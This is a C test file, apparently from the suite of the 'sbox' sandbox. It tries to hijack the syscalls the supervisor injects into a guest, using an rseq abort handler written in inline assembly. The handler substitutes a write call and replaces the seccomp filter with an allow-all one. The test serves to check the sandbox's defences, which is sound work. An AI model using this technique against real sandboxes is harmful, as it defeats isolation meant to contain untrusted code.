/* attack_restart: calls that sbox has a guest make for it are hijacked on their way.
 *
 * The guest goes back to user mode for such a call, to a `syscall` instruction of its own code. That lies in a restartable
 * sequence (rseq(2)) here: whoever was stopped in one goes on at its abort handler, with all registers as sbox set them.
 *   exec     at the exec of a script: makes another call in place of the mmap
 *   socket   the same as sbox puts the guard on it (sbox, src/supervisor/guard.rs)
 *   guard    makes all the calls, but gives the kernel another filter in place of the guard */
#include "check.h"
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

struct area { uint32_t cpu_start, cpu; uint64_t section; };
struct section { uint32_t version, flags; uint64_t start, length, abort; } __attribute__((aligned(32)));

extern char start[], handler[];
extern const ptrdiff_t __rseq_offset;
extern const unsigned int __rseq_size;
struct section section;
struct area *area;
int out, honest;
char mark[] = "!";
long call(long a, long b, long c, long nr);

/* What the kernel wants before an abort handler is glibc's RSEQ_SIG. Each time the handler arms the sequence anew, and puts back
 * the registers that it needs for that: in mmap the last two arguments are -1 and 0, elsewhere 0 and 0. */
asm(".text\n"
    "call: mov %rcx, %rax; xor %r10d, %r10d\n"
    "  mov area(%rip), %r9; lea section(%rip), %r8; mov %r8, 8(%r9); xor %r8d, %r8d; xor %r9d, %r9d\n"
    "start: syscall\n"
    "  ret\n"
    "  .long 0x53053053\n"
    "handler: cmpl $0, honest(%rip); jne 1f\n"
    "  cmp $9, %eax; jne 1f\n"
    "  mov $1, %eax; mov out(%rip), %edi; lea mark(%rip), %rsi; mov $1, %edx\n" /* write(2) */
    "1: cmp $317, %eax; jne 2f\n"                                               /* seccomp(2): allow all */
    "  movw $1, (%rdx); movl $6, 16(%rdx); movl $0x7fff0000, 20(%rdx)\n"
    "2: mov area(%rip), %r9; lea section(%rip), %r8; mov %r8, 8(%r9); xor %r8d, %r8d; xor %r9d, %r9d\n"
    "  cmp $9, %eax; jne 3f\n"
    "  mov $-1, %r8\n"
    "3: jmp start\n");

static void child(const char *mode) {
    static char *argv[] = {"script", NULL}, *env[] = {NULL};
    section = (struct section){.start = (uintptr_t)start, .length = 2, .abort = (uintptr_t)handler};
    if (!strcmp(mode, "exec")) call((long)"./script", (long)argv, (long)env, SYS_execve);
    honest = !strcmp(mode, "guard");
    int fd = call(AF_UNIX, SOCK_DGRAM, 0, SYS_socket);
    /* Hidden in the view, there on every host: whoever finds anything has got past the guard. */
    struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "/root"};
    struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to};
    if (fd >= 0 && sendmsg(fd, &message, 0) < 0 && errno != ENOENT) write(out, mark, 1);
    _exit(0);
}

int main(int argc, char **argv) {
    if (argc < 2 || __rseq_size == 0) return puts("skip: no rseq"), 0;
    area = (void *)((char *)__builtin_thread_pointer() + __rseq_offset);
    put("script", "#!/bin/true\n", 0755);
    char byte;
    int ends[2], status;
    for (int i = 0; i < 20; i++) {
        pipe(ends);
        out = ends[1];
        pid_t pid = fork();
        if (pid == 0) child(argv[1]);
        close(ends[1]);
        waitpid(pid, &status, 0);
        if (read(ends[0], &byte, 1) != 0) ok(0, "%s: a call of the guest's own was made", argv[1]);
        close(ends[0]);
    }
    ok(1, "%s", argv[1]);
    return finish();
}
